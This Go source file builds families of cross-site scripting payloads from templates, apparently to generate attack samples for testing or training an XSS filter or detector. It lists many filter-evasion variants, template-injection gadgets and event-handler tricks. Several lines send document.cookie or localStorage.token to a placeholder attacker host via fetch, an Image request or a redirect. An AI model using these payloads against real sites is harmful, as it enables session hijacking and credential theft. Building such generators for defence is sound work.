package south

func scriptWords() map[string][]string {
	return map[string][]string{
		"js":     split("alert(1)|alert(document.cookie)|confirm(‹num›)|prompt‹tick›1‹tick›|fetch('//‹evil›/?c='+document.cookie)|location='//‹evil›/'+localStorage.token|eval(atob('YWxlcnQoMSk='))|new Image().src='http://‹evil›/'+document.cookie|print()|top['al'+'ert'](1)|import('//‹evil›/x.js')|(alert)(1)|window.name|document.body.innerHTML='‹letters›'|alert‹tick›‹num›‹tick›|self[‹tick›alert‹tick›](‹num›)|console.log(document.domain)|$.getScript('//‹evil›')"),
		"event":  split("onerror|onload|onmouseover|onclick|onfocus|ontoggle|onpointerenter|onanimationstart|onbegin|onpageshow|OnErRoR|onwheel|oncut|onauxclick|onbeforeinput"),
		"script": split("script|SCRIPT|ScRiPt|scRipt"),
		"gap":    split(" | |/|\t|\n|%0c|//| /|\x0c"),
	}
}

func attackScript() []family {
	xss := func(name string, say ...string) family {
		return family{name: "xss/" + name, class: "xss", at: textSpots(), say: say}
	}
	return []family{
		xss("script-block", "‹prose›<‹script›>‹js›</‹script›>", "‹h›\"><‹script›>‹js›</‹script›>", "‹prose› <‹script› >‹js›</‹script› >", "</title><‹script›>‹js›//", "</textarea><‹script›>‹js›</‹script›>", "--><‹script›>‹js›</‹script›><!--"),
		xss("remote-script", "‹prose›<‹script› src=//‹evil›/‹letters›.js></‹script›>", "\"><‹script› src=https://‹evil›></‹script›>", "<‹script›/src='http://‹evil›/a.js'>", "<‹script› type=module>import '//‹evil›/m.js'</‹script›>", "<‹script› src=data:text/javascript,‹js›></‹script›>"),
		xss("img-handler", "‹prose› <img‹gap›src=x‹gap›‹event›=‹js›>", "<img src=\"‹letters›\" ‹event›=\"‹js›\">", "\"><img/src='x'/‹event›=‹js›>", "<IMG SRC=/‹letters› ‹event›=\"‹js›\"></img>", "<image src=1 href=1 ‹event›=‹js›>"),
		xss("svg", "<svg‹gap›‹event›=‹js›>", "‹prose›<svg><animate ‹event›=‹js› attributeName=x dur=1s>", "<svg><script>‹js›</script></svg>", "<svg/onload=‹js›//", "<svg><a xlink:href='javascript:‹js›'><text x=20 y=20>‹letters›</text></a>", "<svg><set ‹event›=‹js›>"),
		xss("attribute-break", "‹h›\" ‹event›=\"‹js›", "‹h›' ‹event›='‹js›' x='", "‹h›\" autofocus ‹event›=‹js› x=\"", "‹h›\" style=\"animation-name:x\" onanimationstart=\"‹js›", "‹h›' accesskey='x' onclick='‹js›", "‹user›\" tabindex=1 onfocus=‹js› \""),
		xss("script-context", "‹h›';‹js›;//", "‹h›\"-‹js›-\"", "'+‹js›+'", "\\';‹js›//", "‹num›};‹js›;{", "‹h›');‹js›;('", "</script><script>‹js›//", "\"}];‹js›//", "${‹js›}"),
		xss("js-url", "javascript:‹js›", "JaVaScRiPt:‹js›", "java\tscript:‹js›", "javascript://‹domain›/%0a‹js›", "  javascript:‹js›", "data:text/html,<script>‹js›</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(‹num›)", "javascript&colon;‹js›", "\x01javascript:‹js›"),
		xss("link-and-form", "<a href=\"javascript:‹js›\">‹noun›</a>", "<form action=javascript:‹js›><button>‹noun›", "<button formaction=\"javascript:‹js›\">‹noun›</button>", "<a href='jav&#x09;ascript:‹js›'>‹prose›</a>", "<isindex action=javascript:‹js› type=image>", "<math><a xlink:href=javascript:‹js›>‹letters›"),
		xss("frames", "<iframe src=\"javascript:‹js›\"></iframe>", "‹prose›<iframe srcdoc='<script>‹js›</script>'>", "<object data=\"data:text/html,<script>‹js›</script>\">", "<embed src=//‹evil›/x.swf allowscriptaccess=always>", "<iframe/onload=‹js›>", "<frameset onload=‹js›>", "<base href=//‹evil›/>"),
		xss("rare-tags", "<details open ontoggle=‹js›>", "<video><source onerror=\"‹js›\"></video>", "<audio src=x onerror=‹js›>", "<marquee onstart=‹js›>‹noun›</marquee>", "<body onload=‹js›>", "<input autofocus onfocus=‹js›>", "<select onfocus=‹js› autofocus>", "<x onclick=‹js›>‹noun›</x>", "<video poster=javascript:‹js›//></video>", "<keygen autofocus onfocus=‹js›>", "<dialog open onclose=‹js›>", "<style onload=‹js›>"),
		xss("css-and-meta", "<style>@import'//‹evil›/x.css';</style>", "<div style=\"width:expression(‹js›)\">", "<meta http-equiv=refresh content=\"0;url=javascript:‹js›\">", "<link rel=stylesheet href=//‹evil›/‹letters›.css>", "<div style=background:url(javascript:‹js›)>", "<style>*{x:expression(‹js›)}</style>", "<link rel=import href=//‹evil›>"),
		xss("broken-tags", "<<script>‹js›//<</script>", "<scr<script>ipt>‹js›</scr</script>ipt>", "<img \"\"\"><script>‹js›</script>\">", "<script\n>‹js›</script\n>", "<sCrIpT\x00>‹js›</script>", "<img src=x:x onerror\n=\n‹js›>", "<a/href=\"j\na\nv\nascript:‹js›\">‹letters›", "<svg onload\r\n=‹js›>", "‹prose›<script>‹js›"),
		xss("markdown-smuggle", "[‹noun›](javascript:‹js›)", "![‹noun›](x\" onerror=\"‹js›)", "‹sentence› [‹noun›](data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)", "<javascript:‹js›>", "[‹letters›]: javascript:‹js›", "![](https://‹evil›/x.png\"onload=\"‹js›)"),
		xss("dom-clobber-template", "{{constructor.constructor('‹js›')()}}", "<div ng-app ng-csp>{{$on.constructor('‹js›')()}}</div>", "<div v-html=\"'‹letters›'\" @click=‹js›>", "<x-‹letters› :href=\"'javascript:‹js›'\">", "{{_c.constructor('‹js›')()}}", "<input ng-focus=$event.view.‹js› autofocus>", "<template><img src=x onerror=‹js›></template>"),
		{name: "xss/entity-hidden", class: "xss", twist: "entity", at: textSpots(), say: []string{"<img src=x ‹event›=‹js›>", "‹prose› <script>‹js›</script>", "<a href=\"javascript:‹js›\">‹noun›</a>", "\"><svg onload=‹js›>"}},
	}
}
